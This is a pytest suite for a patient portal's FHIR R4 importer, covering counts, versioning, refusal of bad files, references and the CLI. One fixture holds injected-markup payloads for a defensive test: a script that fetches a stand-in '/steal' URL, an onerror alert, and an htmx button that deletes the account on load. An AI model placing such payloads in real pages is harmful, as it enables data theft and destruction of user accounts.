"""FHIR R4 import: counts, idempotence, versions, refusals, references, text from the EHR, the CLI."""

from __future__ import annotations

import base64
import gzip
import json
import socket
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select
from sqlalchemy.exc import DataError
from sqlmodel import SQLModel

from portal.cli import main
from portal.fhir import importer, reading
from portal.models import AuditEvent, ClinicalDocument, FhirResource, Observation, Patient
from portal.services import records
from tests.fhir_bundles import (
    SAMPLE_BUNDLE,
    SYNTHEA,
    USCORE_BULK,
    distinct_counts,
    patient_resources,
    resources_in,
    write_bundle,
    write_ndjson,
)


def held_counts(engine) -> dict[str, int]:
    with engine.connect() as conn:
        rows = conn.execute(
            select(FhirResource.resource_type, func.count()).group_by(FhirResource.resource_type)
        )
        return {str(name): int(count) for name, count in rows}


def table_rows(engine) -> dict[str, int]:
    with engine.connect() as conn:
        return {
            table.name: conn.execute(select(func.count()).select_from(table)).scalar_one()
            for table in SQLModel.metadata.sorted_tables
        }


def latest_update(engine):
    with engine.connect() as conn:
        return conn.execute(select(func.max(FhirResource.updated_at))).scalar_one()


def run_cli(settings, *args: str):
    env = {"DATABASE_URL": settings.database_url, "PORTAL_DATA_DIR": str(settings.data_dir)}
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)


def source_counts(paths: list[Path]) -> dict[str, int]:
    resources = [resource for path in paths for resource in resources_in(path)]
    return dict(distinct_counts(resources))


def test_all_sample_sets_import_with_counts_equal_to_the_source(engine) -> None:
    files = reading.collect_files([SYNTHEA, USCORE_BULK, SAMPLE_BUNDLE])

    summary = importer.import_paths(engine, files)

    assert len(files) == 18 + 13 + 1
    assert summary.failed == []
    assert held_counts(engine) == source_counts(files)


def test_generated_bundles_import_with_counts_equal_to_the_source(engine, rng, tmp_path) -> None:
    paths = [write_bundle(tmp_path / f"p{n}.json", patient_resources(rng)) for n in range(3)]

    summary = importer.import_paths(engine, [tmp_path])

    assert summary.failed == []
    assert held_counts(engine) == source_counts(paths)


def test_collection_bundle_imports_like_a_transaction(engine, rng, tmp_path) -> None:
    path = write_bundle(tmp_path / "c.json", patient_resources(rng), bundle_type="collection")

    summary = importer.import_paths(engine, [path])

    assert summary.failed == []
    assert held_counts(engine) == source_counts([path])


def test_bulk_ndjson_files_import_in_dependency_order_across_files(engine, rng, tmp_path) -> None:
    resources = patient_resources(rng) + patient_resources(rng)
    paths = write_ndjson(tmp_path / "bulk", resources)

    summary = importer.import_paths(engine, sorted(paths, reverse=True))

    assert summary.failed == []
    assert held_counts(engine) == dict(distinct_counts(resources))


def test_importing_the_same_files_again_changes_nothing(engine, rng, tmp_path) -> None:
    write_bundle(tmp_path / "a.json", patient_resources(rng))
    write_ndjson(tmp_path / "bulk", patient_resources(rng))
    importer.import_paths(engine, [tmp_path])
    rows_before, updated_before = table_rows(engine), latest_update(engine)

    summary = importer.import_paths(engine, [tmp_path])

    assert summary.failed == []
    assert sum(summary.total("created").values()) == sum(summary.total("updated").values()) == 0
    assert table_rows(engine) == rows_before
    assert latest_update(engine) == updated_before


def _versioned_observation(resources, version: str, value: float) -> dict:
    observation = next(r for r in resources if r["resourceType"] == "Observation" and "valueQuantity" in r)
    observation["meta"] = {"versionId": version, "lastUpdated": f"2024-01-0{version}T00:00:00Z"}
    observation["valueQuantity"]["value"] = value
    return observation


def test_a_newer_version_replaces_the_older(engine, session, rng, tmp_path) -> None:
    resources = patient_resources(rng, visits=1)
    observation = _versioned_observation(resources, "1", 5.0)
    importer.import_paths(engine, [write_bundle(tmp_path / "v1.json", resources)])
    public_id = session.scalars(
        select(Observation.public_id).where(Observation.fhir_id == observation["id"])
    ).one()
    session.rollback()  # end the read: SQLite's BEGIN IMMEDIATE would hold the write lock
    _versioned_observation(resources, "2", 7.5)

    summary = importer.import_paths(engine, [write_bundle(tmp_path / "v2.json", resources)])

    assert summary.total("updated") == {"Observation": 1}
    stored = session.scalars(select(Observation).where(Observation.fhir_id == observation["id"])).one()
    assert (stored.value, stored.public_id) == (7.5, public_id)
    row = session.scalars(select(FhirResource).where(FhirResource.fhir_id == observation["id"])).one()
    assert row.version_id == "2" and json.loads(row.resource_json)["valueQuantity"]["value"] == 7.5


def test_an_older_version_does_not_replace_the_newer(engine, session, rng, tmp_path) -> None:
    resources = patient_resources(rng, visits=1)
    observation = _versioned_observation(resources, "3", 9.0)
    importer.import_paths(engine, [write_bundle(tmp_path / "v3.json", resources)])
    _versioned_observation(resources, "2", 1.0)

    summary = importer.import_paths(engine, [write_bundle(tmp_path / "v2.json", resources)])

    assert summary.total("updated") == {}
    stored = session.scalars(select(Observation).where(Observation.fhir_id == observation["id"])).one()
    assert stored.value == 9.0


def _refused(engine, path: Path) -> importer.FileResult:
    (result,) = importer.import_paths(engine, [path]).files
    assert not result.ok
    assert str(path) in result.message
    return result


def test_a_truncated_file_is_refused_whole(engine, rng, tmp_path) -> None:
    good = write_bundle(tmp_path / "good.json", patient_resources(rng))
    truncated = tmp_path / "truncated.json"
    truncated.write_text(good.read_text()[: len(good.read_text()) // 2])

    result = _refused(engine, truncated)

    assert "not valid JSON" in result.error
    assert held_counts(engine) == {}


def gzipped(path: Path) -> Path:
    packed = path.with_name(path.name + ".gz")
    packed.write_bytes(gzip.compress(path.read_bytes()))
    path.unlink()
    return packed


def test_gzip_compressed_bundles_and_ndjson_import_like_plain_ones(engine, rng, tmp_path) -> None:
    bundle = gzipped(write_bundle(tmp_path / "p.json", patient_resources(rng)))
    bulk = [gzipped(path) for path in write_ndjson(tmp_path / "bulk", patient_resources(rng))]

    summary = importer.import_paths(engine, [tmp_path])

    assert sorted(result.path for result in summary.files) == sorted([bundle, *bulk])
    assert summary.failed == []
    assert held_counts(engine) == source_counts([bundle, *bulk])


@pytest.mark.parametrize("damage", ["truncated", "corrupt", "not-gzip"])
def test_a_damaged_gzip_file_is_refused_whole_naming_the_file(engine, rng, tmp_path, damage) -> None:
    path = gzipped(write_bundle(tmp_path / "p.json", patient_resources(rng)))
    packed = path.read_bytes()
    if damage == "truncated":
        path.write_bytes(packed[: len(packed) // 2])
    elif damage == "corrupt":  # a byte flipped in the compressed data: a bad stream or a failed CRC
        middle = len(packed) // 2
        path.write_bytes(packed[:middle] + bytes([packed[middle] ^ 0xFF]) + packed[middle + 1 :])
    else:
        path.write_bytes(b'{"resourceType": "Bundle"}')

    result = _refused(engine, path)

    assert result.error == "not a complete gzip file (truncated or corrupt)"
    assert held_counts(engine) == {}


def test_a_bundle_with_a_dangling_reference_is_refused_whole(engine, rng, tmp_path) -> None:
    resources = patient_resources(rng)
    observation = next(r for r in resources if r["resourceType"] == "Observation")
    observation["encounter"] = {"reference": "urn:uuid:00000000-0000-4000-8000-000000000000"}
    index = resources.index(observation)
    path = write_bundle(tmp_path / "dangling.json", resources)

    result = _refused(engine, path)

    assert f"entry {index} (Observation/{observation['id']})" in result.error
    assert "points at nothing" in result.error
    assert table_rows(engine)["patient"] == 0 and held_counts(engine) == {}


@pytest.mark.parametrize(
    "content",
    ['{"hello": "world"}', "[1, 2, 3]", '{"resourceType": "Bundle", "entry": [{"request": {}}]}'],
    ids=["object", "array", "bundle-without-resources"],
)
def test_json_that_is_not_fhir_is_refused(engine, tmp_path, content) -> None:
    path = tmp_path / "other.json"
    path.write_text(content)

    result = _refused(engine, path)

    assert "FHIR" in result.error
    assert held_counts(engine) == {}


def test_a_resource_that_fails_validation_refuses_the_file_and_names_the_entry(engine, rng, tmp_path) -> None:
    resources = patient_resources(rng)
    immunization = next(r for r in resources if r["resourceType"] == "Immunization")
    immunization["occurrenceDateTime"] = "2020-13-45"
    index = resources.index(immunization)

    result = _refused(engine, write_bundle(tmp_path / "invalid.json", resources))

    assert f"entry {index} (Immunization/{immunization['id']})" in result.error
    assert "occurrenceDateTime" in result.error and "2020-13-45" not in result.error
    assert held_counts(engine) == {}


def test_an_ndjson_file_with_a_broken_line_is_refused_whole(engine, rng, tmp_path) -> None:
    (patients,) = [p for p in write_ndjson(tmp_path, patient_resources(rng)) if p.name.startswith("Patient")]
    patients.write_text(patients.read_text() + '{"resourceType": "Patient", "id": \n')

    result = _refused(engine, patients)

    assert result.error.startswith("line 2:")
    assert held_counts(engine) == {}


def test_references_to_resources_imported_earlier_resolve(engine, session, rng, tmp_path) -> None:
    resources = patient_resources(rng, visits=1)
    patient = next(r for r in resources if r["resourceType"] == "Patient")
    importer.import_paths(engine, [write_bundle(tmp_path / "first.json", resources)])
    later = {
        "resourceType": "Condition",
        "id": "later-condition",
        "code": {"text": "Later problem"},
        "subject": {"reference": f"Patient/{patient['id']}"},
    }
    path = tmp_path / "later.json"
    path.write_text(json.dumps(later))

    summary = importer.import_paths(engine, [path])

    assert summary.failed == []
    stored = session.scalars(select(FhirResource).where(FhirResource.fhir_id == "later-condition")).one()
    owner = session.scalars(select(Patient).where(Patient.fhir_id == patient["id"])).one()
    assert stored.patient_id == owner.id


def test_unknown_resource_types_are_counted_and_reported_not_fatal(engine, rng, tmp_path, settings) -> None:
    resources = patient_resources(rng, visits=1)
    patient = next(r for r in resources if r["resourceType"] == "Patient")
    goal = {
        "resourceType": "Goal",
        "id": "goal-1",
        "lifecycleStatus": "active",
        "description": {"text": "Walk daily"},
        "subject": {"reference": f"urn:uuid:{patient['id']}"},
    }
    alien = {"resourceType": "SpaceshipReport", "id": "x1"}
    path = write_bundle(tmp_path / "mixed.json", [*resources, goal, alien])

    result = run_cli(settings, "import-fhir", str(path))

    assert result.exit_code == 0
    assert "Goal 1" in result.output and "SpaceshipReport 1" in result.output
    assert held_counts(engine)["Goal"] == 1 and "SpaceshipReport" not in held_counts(engine)


def test_cli_imports_good_files_refuses_bad_ones_and_exits_non_zero(engine, rng, tmp_path, settings) -> None:
    write_bundle(tmp_path / "good.json", patient_resources(rng))
    (tmp_path / "bad.json").write_text("{not json")

    result = run_cli(settings, "import-fhir", str(tmp_path))

    assert result.exit_code == 1
    assert f"refused: {tmp_path / 'bad.json'}" in result.stderr
    assert "files: 1 imported, 1 refused" in result.output
    assert held_counts(engine)["Patient"] == 1


def test_cli_prints_a_table_of_counts_per_type(rng, tmp_path, settings) -> None:
    resources = patient_resources(rng, visits=2)
    write_bundle(tmp_path / "p.json", resources)
    observations = distinct_counts(resources)["Observation"]

    result = run_cli(settings, "import-fhir", str(tmp_path))

    assert result.exit_code == 0
    row = next(line for line in result.output.splitlines() if line.startswith("Observation"))
    assert row.split() == ["Observation", str(observations), str(observations), "0", "0"]


MARKUP = (
    '<script>fetch("http://example.invalid/steal")</script>'
    '<img src="http://example.invalid/pixel.png" onerror="alert(1)">'
    '<button hx-get="/account/delete" hx-trigger="load">x</button>'
)


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError("the importer tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def test_markup_in_a_note_is_stored_as_text_and_nothing_is_fetched(
    engine, session, rng, tmp_path, no_network
) -> None:
    resources = patient_resources(rng, visits=1)
    note = next(r for r in resources if r["resourceType"] == "DocumentReference")
    note["content"][0]["attachment"] = {
        "contentType": "text/html",
        "data": base64.b64encode(MARKUP.encode()).decode(),
        "url": "http://example.invalid/note.html",
    }
    note["description"] = MARKUP
    path = write_bundle(tmp_path / "markup.json", resources)

    summary = importer.import_paths(engine, [path])

    assert summary.failed == [] and no_network == []
    stored = session.scalars(select(ClinicalDocument).where(ClinicalDocument.fhir_id == note["id"])).one()
    assert stored.text == MARKUP


def test_an_absolute_reference_is_never_fetched_and_refuses_the_file(
    engine, rng, tmp_path, no_network
) -> None:
    resources = patient_resources(rng, visits=1)
    condition = next(r for r in resources if r["resourceType"] == "Condition")
    condition["subject"] = {"reference": "http://example.invalid/fhir/Patient/somebody"}

    result = _refused(engine, write_bundle(tmp_path / "remote.json", resources))

    assert "points at nothing" in result.error
    assert no_network == []


def test_confidential_flag_comes_from_meta_security(engine, session) -> None:
    importer.import_paths(engine, [SAMPLE_BUNDLE])

    flagged = session.scalars(select(Observation.code).where(Observation.confidential)).all()

    assert flagged == ["5195-3"]


def test_patient_columns_come_from_the_patient_resource(engine, session) -> None:
    importer.import_paths(engine, [SAMPLE_BUNDLE])

    patient = session.scalars(select(Patient)).one()

    assert (patient.given_name, patient.family_name, str(patient.birth_date)) == (
        "Mia Rose",
        "Sample",
        "2026-03-02",
    )
    assert records.resource_counts(session, patient.id)["Observation"] == 14


def _with_asserter(rng, reference: str) -> list[dict]:
    resources = patient_resources(rng, visits=1)
    condition = next(r for r in resources if r["resourceType"] == "Condition")
    condition["asserter"] = {"reference": reference}
    return resources


def test_a_conditional_reference_resolves_by_identifier_in_the_database(engine, rng, tmp_path) -> None:
    first = patient_resources(rng, visits=1)
    doctor = next(r for r in first if r["resourceType"] == "Practitioner")
    importer.import_paths(engine, [write_bundle(tmp_path / "first.json", first)])
    npi = doctor["identifier"][0]
    resources = _with_asserter(rng, f"Practitioner?identifier={npi['system']}|{npi['value']}")

    summary = importer.import_paths(engine, [write_bundle(tmp_path / "second.json", resources)])

    assert summary.failed == []


def test_a_dangling_conditional_reference_is_refused_without_quoting_the_identifier(
    engine, rng, tmp_path
) -> None:
    resources = _with_asserter(rng, "Practitioner?identifier=http://hl7.org/fhir/sid/us-ssn|123-45-6789")

    result = _refused(engine, write_bundle(tmp_path / "ssn.json", resources))

    assert "Practitioner?identifier=http://hl7.org/fhir/sid/us-ssn|..." in result.error
    assert "123-45-6789" not in result.error


def test_a_refused_file_leaves_earlier_imports_exactly_as_they_were(engine, rng, tmp_path) -> None:
    importer.import_paths(engine, [write_bundle(tmp_path / "good.json", patient_resources(rng))])
    rows_before, updated_before = table_rows(engine), latest_update(engine)
    resources = patient_resources(rng)
    resources[-1]["patient" if "patient" in resources[-1] else "subject"] = {"reference": "Patient/nobody"}
    bad = write_bundle(tmp_path / "bad.json", resources)

    _refused(engine, bad)

    assert table_rows(engine) == rows_before
    assert latest_update(engine) == updated_before


def test_a_document_security_label_marks_it_confidential(engine, session, rng, tmp_path) -> None:
    resources = patient_resources(rng, visits=1)
    note = next(r for r in resources if r["resourceType"] == "DocumentReference")
    note["securityLabel"] = [
        {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v3-Confidentiality", "code": "V"}]}
    ]
    importer.import_paths(engine, [write_bundle(tmp_path / "v.json", resources)])

    stored = session.scalars(select(ClinicalDocument).where(ClinicalDocument.fhir_id == note["id"])).one()

    assert stored.confidential


def test_a_database_error_half_way_rolls_the_whole_file_back(engine, rng, tmp_path, monkeypatch) -> None:
    def fail(*args, **kwargs):
        raise DataError("INSERT", {}, ValueError("value too long"))

    monkeypatch.setattr(importer, "write_projections", fail)

    result = _refused(engine, write_bundle(tmp_path / "p.json", patient_resources(rng)))

    assert result.error == "could not be stored (DataError)"
    assert held_counts(engine) == {} and table_rows(engine)["patient"] == 0


def test_a_bundle_pointing_at_a_later_file_is_imported_after_it(engine, rng, tmp_path) -> None:
    resources = patient_resources(rng, visits=1)
    doctor = next(r for r in resources if r["resourceType"] == "Practitioner")
    npi = doctor["identifier"][0]
    patient_part = [r for r in resources if r is not doctor]
    for resource in patient_part:
        text = json.dumps(resource).replace(
            f"urn:uuid:{doctor['id']}", f"Practitioner?identifier={npi['system']}|{npi['value']}"
        )
        resource.clear()
        resource.update(json.loads(text))
    write_bundle(tmp_path / "A_patient.json", patient_part)
    write_bundle(tmp_path / "practitionerInformation.json", [doctor], bundle_type="batch")

    summary = importer.import_paths(engine, [tmp_path])

    assert summary.failed == []
    assert held_counts(engine) == dict(distinct_counts(resources))


def test_each_patient_changed_by_a_file_gets_one_audit_event_and_a_repeat_none(
    engine, session, rng, tmp_path
) -> None:
    write_bundle(tmp_path / "a.json", patient_resources(rng))
    write_bundle(tmp_path / "b.json", patient_resources(rng))
    importer.import_paths(engine, [tmp_path])

    importer.import_paths(engine, [tmp_path])

    events = session.scalars(select(AuditEvent)).all()
    assert sorted(e.action for e in events) == ["create", "create"]
    assert {e.patient_id for e in events} == set(session.scalars(select(Patient.id)).all())


def test_an_observation_is_filed_under_its_loinc_code_when_it_has_several(
    engine, session, rng, tmp_path
) -> None:
    resources = patient_resources(rng, visits=1)
    observation = next(r for r in resources if r["resourceType"] == "Observation")
    loinc = observation["code"]["coding"][0]
    observation["code"]["coding"].insert(0, {"system": "urn:example:local-lab", "code": "GLU-7"})
    importer.import_paths(engine, [write_bundle(tmp_path / "p.json", resources)])

    stored = session.scalars(select(Observation).where(Observation.fhir_id == observation["id"])).one()

    assert (stored.code_system, stored.code) == ("http://loinc.org", loinc["code"])


def test_a_file_starting_with_a_byte_order_mark_imports(engine, rng, tmp_path) -> None:
    path = write_bundle(tmp_path / "bom.json", patient_resources(rng, visits=1))
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())

    summary = importer.import_paths(engine, [path])

    assert summary.failed == []
